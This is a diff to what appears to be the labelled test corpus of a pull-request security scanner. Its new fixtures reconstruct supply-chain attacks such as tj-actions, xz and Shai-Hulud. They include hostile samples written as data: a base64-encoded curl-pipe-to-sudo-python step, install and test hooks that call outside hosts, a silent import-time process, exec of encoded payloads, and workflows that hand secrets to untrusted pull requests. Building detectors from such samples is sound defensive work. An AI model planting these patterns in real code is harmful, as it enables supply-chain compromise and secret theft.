@@ -1,7 +1,8 @@
 // The labelled PR corpus: reconstructions of real attacks and of each rule
 // (malicious), and ordinary Scientific Python changes (benign). `expect` lists
 // the rules that must fire; `also` the ones that may fire without counting as
-// false alarms (a workflow PR is also a CI-configuration edit). Any other
+// false alarms (a workflow PR is also a CI-configuration edit; an attack's
+// payload also matches the content rules for what it does). Any other
 // rule that fires is a false positive in the precision table.
 import { readdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
@@ -33,6 +34,19 @@ export function noise(n: number, seed = 1): Buffer {
     b[i] = x & 0xff;
   }
   return b;
+}
+
+/** javascript-obfuscator-style output of about n characters in lines of ~1,500 (deterministic). */
+function obfuscatedJs(n: number): string {
+  const lines: string[] = [];
+  let size = 0;
+  for (let k = 0; size < n; k++) {
+    const names = Array.from({ length: 40 }, (_, i) => `_0x${((k * 977 + i * 131) % 0xfffff).toString(16).padStart(5, '0')}`);
+    const line = `var ${names.map((v, i) => `${v}=function(_0xa,_0xb){return _0xa[${i}]^_0xb['\\x${(i % 200).toString(16)}']+!![]}`).join(',')};`;
+    lines.push(line);
+    size += line.length + 1;
+  }
+  return lines.join('\n') + '\n';
 }
 
 const XZ_MAGIC = Buffer.from('\xfd7zXZ\x00', 'latin1');
@@ -113,7 +127,86 @@ export const CASES: Case[] = [
         "require('child_process').execSync(Buffer.from(p, 'base64').toString('utf-8'));\n"
     },
     author: { name: 'renovate[bot]', email: '29139614+renovate[bot]@users.noreply.github.com' },
-    expect: ['obfuscation/bundled-js-payload']
+    expect: ['obfuscation/bundled-js-payload'],
+    also: ['code/dist-exec-sink']
+  },
+  {
+    name: 'tj-actions: short shell payload decoded and run from bundled dist/index.js',
+    label: 'malicious',
+    base: { 'dist/index.js': "'use strict';\nconst exec = require('@actions/exec');\nasync function gitVersion() {\n  return exec.getExecOutput('git', ['--version'], { silent: true });\n}\n" },
+    head: {
+      'dist/index.js':
+        "'use strict';\nconst exec = require('@actions/exec');\nasync function gitVersion() {\n  return exec.getExecOutput('git', ['--version'], { silent: true });\n}\n" +
+        `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`
+    },
+    expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
+    also: ['obfuscation/bundled-js-payload']
+  },
+  {
+    name: 'xz Landlock: a stray character breaks a CMake feature test',
+    label: 'malicious',
+    base: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\ninclude(CheckIncludeFile)\ncheck_include_file(linux/landlock.h HAVE_LINUX_LANDLOCK_H)\n' },
+    head: {
+      'CMakeLists.txt':
+        'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\ninclude(CheckCSourceCompiles)\ncheck_c_source_compiles("\n    #include <linux/landlock.h>\n    #include <sys/prctl.h>\n.\n    void my_sandbox(void)\n    {\n        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);\n        (void)LANDLOCK_CREATE_RULESET_VERSION;\n    }\n    int main(void) { return 0; }\n    "\nHAVE_LINUX_LANDLOCK)\n'
+    },
+    expect: ['build/feature-test']
+  },
+  {
+    name: 'trigger switched to pull_request_target on a job that builds PR code with a secret',
+    label: 'malicious',
+    base: { [`${WF}/test.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
+    head: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
+    expect: ['workflow/dangerous-trigger'],
+    also: ['meta/governance-edit']
+  },
+  {
+    name: 'secret newly handed to a pull_request_target job that builds PR code',
+    label: 'malicious',
+    base: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n` },
+    head: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
+    expect: ['workflow/dangerous-trigger'],
+    also: ['meta/governance-edit']
+  },
+  {
+    name: 'pull_request switched to pull_request_target on a workflow that expands the title',
+    label: 'malicious',
+    base: { [`${WF}/greet.yml`]: `on: pull_request\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for \${{ github.event.pull_request.title }}"\n` },
+    head: { [`${WF}/greet.yml`]: `on: pull_request_target\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for \${{ github.event.pull_request.title }}"\n` },
+    expect: ['workflow/template-injection'],
+    also: ['meta/governance-edit', 'workflow/dangerous-trigger']
+  },
+  {
+    name: "PR head checked out through another action's inputs",
+    label: 'malicious',
+    base: { [`${WF}/docs.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/git-sync@0123456789abcdef0123456789abcdef01234567 # v2.1.0\n      - run: make docs\n` },
+    head: { [`${WF}/docs.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/git-sync@0123456789abcdef0123456789abcdef01234567 # v2.1.0\n        with:\n          branch: \${{ github.event.pull_request.head.ref }}\n          repository: \${{ github.event.pull_request.head.repo.full_name }}\n      - run: make docs\n` },
+    expect: ['workflow/dangerous-trigger'],
+    also: ['meta/governance-edit']
+  },
+  {
+    name: 'extra package index for an internal name in a Dockerfile, a workflow step and pip.conf',
+    label: 'malicious',
+    base: { Dockerfile: 'FROM python:3.12-slim\nRUN pip install numpy\n', [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install -e .\n` },
+    head: {
+      Dockerfile: 'FROM python:3.12-slim\nRUN pip install numpy\nRUN pip install --extra-index-url https://pkgs.octo-corp.net/simple octo-internal-utils\n',
+      'pip.conf': '[global]\nextra-index-url = https://pkgs.octo-corp.net/simple\n',
+      [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install -e . && pip install --extra-index-url https://pkgs.octo-corp.net/simple octo-internal-utils\n`
+    },
+    expect: ['deps/index-url'],
+    also: ['meta/governance-edit']
+  },
+  {
+    name: 'Shai-Hulud: npm preinstall script beside a large obfuscated script',
+    label: 'malicious',
+    base: { 'js/package.json': '{\n  "name": "pkg-labextension",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "tsc"\n  }\n}\n' },
+    head: {
+      'js/package.json': '{\n  "name": "pkg-labextension",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "node setup_bun.js",\n    "build": "tsc"\n  }\n}\n',
+      'js/setup_bun.js': "const { execSync } = require('child_process');\nexecSync('node bun_environment.js', { stdio: 'ignore' });\n",
+      'js/bun_environment.js': obfuscatedJs(160_000)
+    },
+    expect: ['code/install-hook', 'obfuscation/minified-js'],
+    also: ['obfuscation/packer', 'code/silent-process']
   },
   {
     name: 'GhostAction: new workflow posts secrets to an outside host',
@@ -126,7 +219,7 @@ export const CASES: Case[] = [
     },
     expect: ['workflow/secrets-to-outside-host', 'workflow/all-secrets'],
     // `${{ toJSON(secrets) }}` in a script is also an expansion of secrets into it (info).
-    also: ['meta/governance-edit', 'workflow/template-injection', ...INCIDENTAL]
+    also: ['code/shady-link', 'meta/governance-edit', 'workflow/template-injection', ...INCIDENTAL]
   },
   {
     name: 'Shai-Hulud: discussion-triggered workflow on a self-hosted runner runs the body',
@@ -171,7 +264,8 @@ export const CASES: Case[] = [
       'setup.py':
         'import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        urllib.request.urlretrieve("https://198.51.100.7/x", "/tmp/x")\n        install.run(self)\n\nsetup(name="pkg", cmdclass={"install": PostInstall})\n'
     },
-    expect: ['build/setup-py']
+    expect: ['code/install-hook'],
+    also: ['code/shady-link']
   },
   {
     name: 'pyproject points the build backend at in-tree code',
@@ -199,7 +293,8 @@ export const CASES: Case[] = [
     label: 'malicious',
     base: { 'tests/conftest.py': 'import pytest\n' },
     head: { 'tests/conftest.py': 'import pytest\nimport subprocess\n\ndef pytest_configure(config):\n    subprocess.run(["curl", "-s", "https://203.0.113.5/c"], check=False)\n' },
-    expect: ['build/test-runner-hook']
+    expect: ['build/test-runner-hook'],
+    also: ['code/shady-link']
   },
   {
     name: 'local pre-commit hook added',
@@ -219,7 +314,8 @@ export const CASES: Case[] = [
     label: 'malicious',
     base: { 'src/pkg/__init__.py': '__all__ = []\n' },
     head: { 'src/pkg/__init__.py': 'import subprocess, sys\n__all__ = []\nsubprocess.Popen([sys.executable, "-m", "pkg._runtime"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n' },
-    expect: ['build/import-time-process']
+    expect: ['build/import-time-process'],
+    also: ['code/silent-process']
   },
   {
     name: 'exec of a base64 literal',
@@ -377,7 +473,8 @@ export const CASES: Case[] = [
     label: 'malicious',
     base: { '.gitattributes': 'src/pkg/_vendored.py -diff\n', 'src/pkg/_vendored.py': 'VERSION = 1\n' },
     head: { 'src/pkg/_vendored.py': `VERSION = 1\nimport base64\nexec(base64.b64decode("${PAYLOAD}"))\n` },
-    expect: ['obfuscation/encoded-exec']
+    expect: ['obfuscation/encoded-exec'],
+    also: ['obfuscation/long-encoded-literal']
   },
 
   // --- benign -----------------------------------------------------------------------------------------
